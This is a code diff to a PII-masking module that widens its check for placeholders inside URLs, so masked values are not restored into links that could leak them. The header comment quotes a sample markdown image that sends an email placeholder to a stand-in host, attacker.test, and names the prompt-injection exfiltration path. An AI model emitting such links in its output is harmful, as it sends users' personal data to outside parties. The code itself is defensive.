@@ -3,25 +3,26 @@
 // (`![x](https://attacker.test/p.png?d=<EMAIL_1>)`), the value leaves with the request a rendering
 // client makes for it — the prompt-injection exfiltration path masking was meant to close. So a
 // placeholder inside a URL is not restored: it stays as it is, for the caller as for the record.
-// "Inside a URL" is read from the text of its line before it: the run of characters right before it
-// holds URL syntax (`://`, `/`, `?`, `=`, `&`, `#`, `%`, `:`, `](`, `www.`), or a markdown link
-// target, an HTML tag, a quoted attribute value or a CSS `url(` is still open on that line. Streams
-// remember the end of the line they released (lineTail), so a URL opened earlier still counts.
+// "Inside a URL" is read from the text before it: the run of characters right before it holds URL
+// syntax (`://`, `/`, `?`, `=`, `&`, `#`, `%`, `:`, `](`, `www.`), or, in the 2,048 characters
+// before it, a markdown link target, an HTML tag, a quoted attribute value or a CSS `url(` is still
+// open — across line breaks too: an HTML attribute value may span lines, and a browser drops the
+// line breaks from the URL it makes of it. Streams remember the end of what they released
+// (lineTail), so a URL opened earlier still counts.
 import type { Match } from "./match-scanner.js";
 
-/** The most of a line a stream remembers for the check. */
+/** The most of the text before a placeholder a stream remembers for the check. */
 const LINE = 2048;
 
-/** The end of the current line of `text`, at most LINE characters. */
+/** The end of `text` the check reads, at most LINE characters (line breaks included). */
 export function lineTail(text: string): string {
-  const start = Math.max(text.lastIndexOf("\n") + 1, text.length - LINE);
-  return start === 0 ? text : text.slice(start);
+  return text.length <= LINE ? text : text.slice(text.length - LINE);
 }
 
 const urlRun = /[:/\\?=&#%]|\]\(|www\./i;
 const openConstruct = /\]\([^)]*$|<[a-zA-Z][^<>]*$|=\s*"[^"]*$|=\s*'[^']*$|url\(\s*[^)]*$/i;
 
-/** Whether a placeholder right after `before` (the text of its line before it) sits in a URL. */
+/** Whether a placeholder right after `before` (the text before it) sits in a URL. */
 export function insideUrl(before: string): boolean {
   const line = lineTail(before);
   let start = line.length;
